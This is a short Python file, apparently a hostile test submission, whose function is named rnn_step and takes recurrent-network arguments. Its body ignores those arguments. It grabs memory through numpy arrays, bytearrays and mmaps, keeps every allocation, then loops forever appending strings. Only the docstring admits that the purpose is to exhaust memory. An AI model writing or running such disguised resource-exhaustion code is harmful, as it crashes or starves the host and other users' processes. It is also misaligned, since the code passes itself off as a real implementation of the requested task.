"""Takes all the memory that it can get, in many ways, and keeps it."""
import mmap

import numpy as np

kept = []


def rnn_step(x, h_prev, U, W, a):
    for make in (lambda: np.ones(2**24), lambda: bytearray(2**26), lambda: mmap.mmap(-1, 2**27)):
        try:
            while True:
                kept.append(make())
        except (MemoryError, OSError, ValueError):
            pass
    more = []
    while True:
        more.append("x" * 1000)
